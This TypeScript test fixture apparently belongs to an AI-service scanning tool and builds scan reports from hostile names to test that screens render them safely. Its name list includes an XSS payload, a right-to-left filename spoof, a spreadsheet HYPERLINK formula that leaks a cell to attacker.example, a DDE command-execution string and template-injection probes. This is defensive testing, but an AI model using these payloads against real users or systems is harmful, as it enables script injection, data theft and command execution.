/** An estate of names that break screens: what a stranger could write into a repository or a provider's console. */
import { type Finding, ScanReport as Report, type ScanReport } from '@ai-census/schema'

/** At most so long, and never with half a character at the end, which the collector refuses. */
const cut = (text: string, most: number) => text.slice(0, most).replace(/[\ud800-\udbff]$/, '')
const long = (part: string, most: number) => cut(part.repeat(Math.ceil(most / part.length)), most)

export const HOSTILE_NAMES = {
  markup: '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script><b>bold</b>',
  rightToLeft: 'فاتورة ذكاء اصطناعي \u202egnp.exe\u202c',
  emoji: '🤖👩‍👩‍👧‍👦🏴‍☠️ e\u0301\u0301\u0301 Z\u0334\u0353a\u0321lgo',
  formula: '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
  command: "+cmd|' /C calc'!A0",
  unbroken: 'x'.repeat(512),
  spaces: 'a\u00a0\u2003\u200b\u200b b',
  entity: '&lt;script&gt; &amp; %3Cscript%3E {{7*7}} #{7*7}',
} as const

export type HostileName = keyof typeof HOSTILE_NAMES

const AT = '2026-11-20T08:00:00.000Z'

function findingOf(name: string, index: number): Finding {
  return {
    key: `service:hostile-${index}`,
    kind: 'service',
    supplier: null,
    supplierName: cut(name, 256),
    product: cut(name, 256),
    name: cut(name, 512),
    model: { id: cut(`model ${name}`, 512) },
    grade: 'configured',
    context: 'production',
    identifiers: [{ type: 'model-id', value: cut(`model ${name}`, 2048) }],
    attributes: { note: long(`${name} `, 4096), list: [name, cut(name, 1024)] },
    evidence: [
      {
        method: 'configuration',
        rule: 'hostile/name',
        strength: 'strong',
        location: { path: cut(`src/${name.replaceAll('/', '∕')}.py`, 4096), startLine: 7 },
        excerpt: cut(`name = ${name}`, 400),
      },
    ],
    claims: [
      { field: 'purpose', value: long(`${name} `, 1024), source: 'inference' },
      { field: 'technical-owner', value: cut(name, 1024), source: 'codeowners' },
    ],
  }
}

/** One repository for each name. */
export const hostileReports = (): ScanReport[] =>
  Object.values(HOSTILE_NAMES).map((name, index) =>
    Report.parse({
      scanner: 'code',
      version: '1.0.0',
      catalogue: 'hostile',
      scope: { key: `git:github.com/hostile/r${index}`, title: name, source: 'github:hostile' },
      startedAt: AT,
      finishedAt: AT,
      coverage: { status: 'partial', reason: 'unreadable-files', detail: long(`${name} `, 2000) },
      findings: [findingOf(name, index)],
      unknowns: [],
    }),
  )
